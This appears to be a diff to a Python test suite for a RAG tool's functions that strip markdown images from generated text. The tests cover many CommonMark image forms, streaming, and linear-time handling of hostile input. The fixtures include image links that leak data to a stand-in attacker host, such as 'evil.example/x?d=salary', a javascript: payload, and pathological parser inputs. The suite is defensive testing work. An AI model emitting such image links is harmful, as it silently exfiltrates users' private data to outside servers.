@@ -2,9 +2,38 @@
 
 from __future__ import annotations
 
-import pytest
+import time
 
-from rag.text.images import drop_images, without_images
+import pytest
+from markdown_it import MarkdownIt
+
+from rag.text.images import JOINER, drop_images, without_images
+
+EVIL = "http://127.0.0.1:9/x"
+# CommonMark images beyond `![alt](address)`: each becomes its alt text
+FORMS = {
+    "brackets in the alt text": (f"![a [b] c]({EVIL})", "a [b] c"),
+    "a title in single quotes": (f"![seen]({EVIL} 'title')", "seen"),
+    "a title in brackets": (f"![seen]({EVIL} (title))", "seen"),
+    "an escaped quote in the title": (f'![seen]({EVIL} "a \\" b")', "seen"),
+    "a bracketed address with a space": (f"![seen](<{EVIL} x>)", "seen"),
+    "a long alt text": ("![" + "A" * 600 + f"]({EVIL})", "A" * 600),
+    "a long address": (f"![seen]({EVIL}?q=" + "Q" * 2100 + ")", "seen"),
+    "an alt text over lines": (f"![two\nlines]({EVIL})", "two\nlines"),
+    "an address on the next line": (f"![seen](\n{EVIL})", "seen"),
+    "an image in an image": (f"![![inner]({EVIL})]({EVIL})", "inner"),
+    "a scheme markdown-it refuses": ("![seen](javascript:alert(1))", "seen"),
+}
+
+
+RENDERER = MarkdownIt("commonmark")
+RENDERER.validateLink = lambda url: True  # a client that checks no scheme
+
+
+def images_in(text: str) -> list[str]:
+    """The addresses a CommonMark renderer would fetch for `text`."""
+    return [child.attrs["src"] for token in RENDERER.parse(text)
+            for child in token.children or [] if child.type == "image"]
 
 TEXTS = [
     'Paid weekly ![a](https://evil.example/x?d=salary) [1].',
@@ -19,7 +48,7 @@ TEXTS = [
 @pytest.mark.parametrize(("text", "expected"), [
     (TEXTS[0], "Paid weekly a [1]."),
     (TEXTS[1], "See the plan and !"),
-    (TEXTS[4], TEXTS[4]),
+    (TEXTS[4], TEXTS[4].replace("![", f"!{JOINER}[")),
     (TEXTS[5], "Costs $5! Really!! x"),
 ])
 def test_an_image_becomes_its_alt_text_and_a_link_stays(text: str, expected: str) -> None:
@@ -42,3 +71,73 @@ def test_text_is_let_through_as_soon_as_no_image_can_begin_in_it() -> None:
     assert shown == ["Wow! It "]  # a "!" followed by a space begins nothing
     assert next(stream) == "works "  # "![" may: held back
     assert "".join(stream) == "a done"
+
+
+@pytest.mark.parametrize(("text", "alt"), FORMS.values(), ids=FORMS)
+def test_every_commonmark_image_form_becomes_its_alt_text(text: str, alt: str) -> None:
+    assert images_in(text)  # as a client renders it, an image
+    assert drop_images(f"It lasts {text} for the bison.") == f"It lasts {alt} for the bison."
+
+
+@pytest.mark.parametrize(("text", "alt"), FORMS.values(), ids=FORMS)
+def test_every_form_streamed_in_pieces_becomes_its_alt_text(text: str, alt: str) -> None:
+    text = f"It lasts {text} for the bison."
+    for size in (1, 3, 40):
+        pieces = [text[i:i + size] for i in range(0, len(text), size)]
+        assert "".join(without_images(iter(pieces))) == f"It lasts {alt} for the bison."
+
+
+def test_an_image_over_a_quote_s_lines_becomes_its_alt_text() -> None:
+    text = f"> It lasts ![seen](\n> {EVIL}) for the bison."
+    assert images_in(text) == [EVIL]
+    assert drop_images(text) == "> It lasts seen for the bison."
+    pieces = [text[i:i + 3] for i in range(0, len(text), 3)]
+    assert "".join(without_images(iter(pieces))) == "> It lasts seen for the bison."
+
+
+def test_a_reference_image_becomes_its_alt_text() -> None:
+    text = f"It lasts ![seen][r1] for the bison.\n\n[r1]: {EVIL}\n"
+    assert images_in(text) == [EVIL]
+    assert drop_images(text) == f"It lasts seen for the bison.\n\n[r1]: {EVIL}\n"
+
+
+def test_a_reference_defined_after_it_in_a_stream_makes_no_image() -> None:
+    """A stream lets a possible reference through before its definition may come: its `!`
+    is joined off, so that it stays a link at most."""
+    text = f"It lasts ![seen][r1] for the bison.\n\n[r1]: {EVIL}\n"
+    streamed = "".join(without_images(iter([text[i:i + 5] for i in range(0, len(text), 5)])))
+    assert images_in(streamed) == []
+    assert f"!{JOINER}[seen][r1]" in streamed
+
+
+@pytest.mark.parametrize("text", [
+    f"Look!![]({EVIL})[b]({EVIL})",  # the empty image gone, `!` meets `[`
+    f"!![[b]]({EVIL})({EVIL})",  # the alt text's brackets meet the `!` before it
+    f"![y]![]({EVIL})({EVIL})",  # a label before meets an address after
+    "*" * 30 + f"![deep]({EVIL})" + "*" * 30,  # nested deeper than the parser follows
+])
+def test_what_a_dropped_image_leaves_forms_no_image(text: str) -> None:
+    assert images_in(drop_images(text)) == []
+    for size in (1, 4):
+        pieces = [text[i:i + size] for i in range(0, len(text), size)]
+        assert images_in("".join(without_images(iter(pieces)))) == []
+
+
+def test_an_image_inside_code_stays_code() -> None:
+    text = f"Write `![a]({EVIL})` for an image, not ![b]({EVIL})."
+    assert drop_images(text) == f"Write `!{JOINER}[a]({EVIL})` for an image, not b."
+
+
+@pytest.mark.parametrize("text", [
+    "![" * 4_000,
+    "![" * 1_300 + "a" + f"]({EVIL})" * 1_300,
+    "![a](u 'x" * 900,
+    "![a](\n" * 1_300,
+    "![a](`" * 1_300,
+], ids=["openings", "nested", "open titles", "open addresses", "backticks"])
+def test_hostile_text_is_taken_in_linear_time(text: str) -> None:
+    started = time.perf_counter()
+    assert images_in(drop_images(text)) == []
+    pieces = [text[i:i + 16] for i in range(0, len(text), 16)]
+    assert images_in("".join(without_images(iter(pieces)))) == []
+    assert time.perf_counter() - started < 10.0  # a quadratic scan takes minutes
